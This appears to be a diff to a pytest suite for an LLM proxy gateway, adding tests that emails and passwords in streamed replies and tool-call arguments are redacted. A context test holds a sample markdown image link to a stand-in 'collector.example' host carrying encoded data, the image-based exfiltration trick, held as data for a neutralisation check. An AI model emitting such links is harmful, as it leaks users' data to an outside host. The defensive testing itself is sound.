@@ -141,3 +141,45 @@ def test_system_prompt_leak_is_blocked(gateway, provider, stream):
 def test_exfiltration_image_is_neutralised(gateway):
     reply = "Done! ![status](https://collector.example/p.png?d=" + "c2VjcmV0LWRhdGE" + ") and [docs](https://docs.example.org/x)"
     assert ask(gateway, "openai", reply, False) == "Done! ![status]([REDACTED_LINK]) and [docs](https://docs.example.org/x)"
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_openai_responses_api(gateway, stream):
+    oai, _ = clients(gateway)
+    headers = {"x-mock-reply": f"Contact {EMAIL} today.", "x-mock-chunk-chars": "3"}
+    want = "Contact [REDACTED_EMAIL] today."
+    if not stream:
+        assert oai.responses.create(model="m", input="hi", extra_headers=headers).output_text == want
+        return
+    events = list(oai.responses.create(model="m", input="hi", stream=True, extra_headers=headers))
+    assert "".join(e.delta for e in events if e.type == "response.output_text.delta") == want
+    done = [e for e in events if e.type == "response.output_text.done"]
+    assert done and done[0].text == want
+    assert events[-1].type == "response.completed" and events[-1].response.output_text == want
+
+
+@pytest.mark.parametrize("provider", ["openai", "anthropic"])
+def test_tool_call_arguments_are_scanned(gateway, provider):
+    oai, claude = clients(gateway)
+    tool = json.dumps({"name": "send", "arguments": {"to": EMAIL, "password": "Hunter2!x"}})
+    headers = {"x-mock-tool-call": tool, "x-mock-chunk-chars": "4"}
+    if provider == "openai":
+        for stream in (False, True):
+            if stream:
+                chunks = oai.chat.completions.create(model="m", messages=[{"role": "user", "content": "hi"}],
+                                                     stream=True, extra_headers=headers)
+                args = "".join(c.choices[0].delta.tool_calls[0].function.arguments or ""
+                               for c in chunks if c.choices and c.choices[0].delta.tool_calls)
+            else:
+                r = oai.chat.completions.create(model="m", messages=[{"role": "user", "content": "hi"}],
+                                                extra_headers=headers)
+                args = r.choices[0].message.tool_calls[0].function.arguments
+            assert json.loads(args) == {"to": "[REDACTED_EMAIL]", "password": "[REDACTED_PASSWORD]"}
+        return
+    m = claude.messages.create(model="m", max_tokens=64, messages=[{"role": "user", "content": "hi"}],
+                               extra_headers=headers)
+    assert m.content[0].input == {"to": "[REDACTED_EMAIL]", "password": "[REDACTED_PASSWORD]"}
+    with claude.messages.stream(model="m", max_tokens=64, messages=[{"role": "user", "content": "hi"}],
+                                extra_headers=headers) as s:
+        final = s.get_final_message()
+    assert final.content[0].input == {"to": "[REDACTED_EMAIL]", "password": "[REDACTED_PASSWORD]"}
